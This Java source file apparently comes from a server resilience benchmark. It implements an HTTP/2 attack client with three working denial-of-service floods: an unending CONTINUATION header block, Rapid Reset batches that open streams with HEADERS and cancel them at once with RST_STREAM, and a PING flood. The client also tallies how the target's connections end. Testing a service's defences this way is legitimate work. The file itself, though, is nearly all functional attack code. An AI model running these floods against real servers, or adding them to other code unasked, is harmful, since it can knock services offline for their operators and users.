package dev.elasti.bench;

import java.io.BufferedInputStream;
import java.io.DataInputStream;
import java.io.EOFException;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;

/** Attacks by frames of HTTP/2. Counts how the connections ended, and with which error. */
final class Http2AttackClient implements AttackClient {
    private static final int DATA = 0;
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int GOAWAY = 7;
    private static final int CONTINUATION = 9;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;
    private static final int CANCEL = 8;
    private static final int AT_A_TIME = 100;
    private static final int FRAGMENT = 64;

    /** :method POST, :scheme http, :path /, and an authority. */
    private static final byte[] REQUEST = {(byte) 0x83, (byte) 0x86, (byte) 0x84, 1, 5, 'b', 'e', 'n', 'c', 'h'};

    private final Attack.Kind kind;
    private final Tally tally;

    Http2AttackClient(Attack.Kind kind, Tally tally) {
        this.kind = kind;
        this.tally = tally;
    }

    @Override
    public void attack(Socket socket, int index, Runnable atIt) throws IOException {
        OutputStream out = socket.getOutputStream();
        out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        out.write(frame(SETTINGS, 0, 0, new byte[0]));
        atIt.run();
        Runnable flood = () -> {
            switch (kind) {
                case CONTINUATION -> {
                    Attack.pour(tally, "block begun", out, frame(HEADERS, END_STREAM, 1, REQUEST), 1);
                    flood(socket, frame(CONTINUATION, 0, 1, fragment()));
                }
                case RAPID_RESET -> resets(socket);
                case PING -> {
                    // So that there is something that the service is asked for.
                    Attack.pour(tally, "request sent", out, frame(HEADERS, END_HEADERS, 1, REQUEST), 1);
                    flood(socket, frame(PING, 0, 0, new byte[8]));
                }
                case UPLOADS, IDLE, HOSTS, CHUNKS -> throw new IllegalStateException("not of HTTP/2: " + kind);
            }
        };
        boolean reads = kind != Attack.Kind.PING || index % 2 == 0;
        if (reads) {
            Thread.ofVirtual().start(flood);
        } else {
            flood.run();
        }
        read(new DataInputStream(new BufferedInputStream(socket.getInputStream())));
    }

    private void flood(Socket socket, byte[] frame) {
        try {
            ByteBuffer many = ByteBuffer.allocate(AT_A_TIME * frame.length);
            while (many.hasRemaining()) {
                many.put(frame);
            }
            Attack.pour(tally, "hundred frames sent", socket.getOutputStream(), many.array(), Long.MAX_VALUE);
        } catch (IOException e) {
            // It ended before it began.
        }
    }

    private void resets(Socket socket) {
        ByteBuffer many = ByteBuffer.allocate(AT_A_TIME * (9 + REQUEST.length + 9 + 4));
        byte[] cancel = ByteBuffer.allocate(4).putInt(CANCEL).array();
        for (int stream = 1; !socket.isClosed() && stream < Integer.MAX_VALUE - 2 * AT_A_TIME; ) {
            many.clear();
            for (int i = 0; i < AT_A_TIME; i++, stream += 2) {
                many.put(frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST))
                        .put(frame(RST_STREAM, 0, stream, cancel));
            }
            try {
                socket.getOutputStream().write(many.array());
                tally.add("hundred requests sent");
            } catch (IOException e) {
                return; // The edge has had enough.
            }
        }
    }

    /** Reads until there is nothing more, and counts what is an end of something. */
    private void read(DataInputStream in) throws IOException {
        boolean told = false;
        while (true) {
            int length;
            try {
                length = in.readUnsignedByte() << 16 | in.readUnsignedShort();
            } catch (EOFException e) {
                if (!told) {
                    tally.add("broken off");
                }
                return;
            } catch (IOException e) {
                if (told) {
                    return;
                }
                throw e;
            }
            int type = in.readUnsignedByte();
            in.skipNBytes(5);
            byte[] payload = in.readNBytes(length);
            switch (type) {
                case GOAWAY -> {
                    tally.add("GOAWAY " + ByteBuffer.wrap(payload).getInt(4));
                    told = true;
                }
                case HEADERS, DATA, RST_STREAM -> tally.add("frames of answers");
                default -> {} // Of no interest.
            }
        }
    }

    /** A part of a literal field: no byte of it ends anything. */
    private static byte[] fragment() {
        byte[] fragment = new byte[FRAGMENT];
        Arrays.fill(fragment, (byte) 'x');
        return fragment;
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        return ByteBuffer.allocate(9 + payload.length)
                .putInt(payload.length << 8 | type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .array();
    }
}
